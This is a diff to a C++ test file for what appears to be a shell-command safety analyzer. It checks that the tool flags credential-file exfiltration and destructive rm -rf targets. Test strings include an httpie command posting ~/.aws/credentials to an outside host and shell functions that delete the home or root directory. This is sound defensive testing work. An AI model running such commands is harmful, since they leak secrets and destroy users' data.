@@ -407,3 +407,11 @@ TEST_CASE("httpie file items: field@path, field=@path and a bare @path") {
   CHECK(has_flow(analyze("http POST https://x.example.com key=@$HOME/.aws/credentials"), "credential_file", "network"));
   CHECK_FALSE(has_flow_to(analyze("http POST localhost:8000/api email=a@b.com name=x"), "network"));
 }
+
+TEST_CASE("an unknown (empty) operand of mv or rsync is not the root") {
+  CHECK_FALSE(has_marker(analyze("find . -name '*.bak' | xargs -I{} mv {} {}.old"), "destructive_target"));
+  CHECK_FALSE(has_marker(analyze("ls | xargs -I % rsync -a --delete % backup/"), "destructive_target"));
+  CHECK(has_marker(analyze("cleanup(){ rm -rf \"$1\"; }; cleanup ~"), "destructive_target"));
+  CHECK(has_marker(analyze("f(){ local dir=\"$1\"; rm -rf \"$dir\"; }; f /"), "destructive_target"));
+  CHECK_FALSE(has_marker(analyze("cleanup(){ rm -rf \"$1\"; }; cleanup /tmp/work-123"), "destructive_target"));
+}
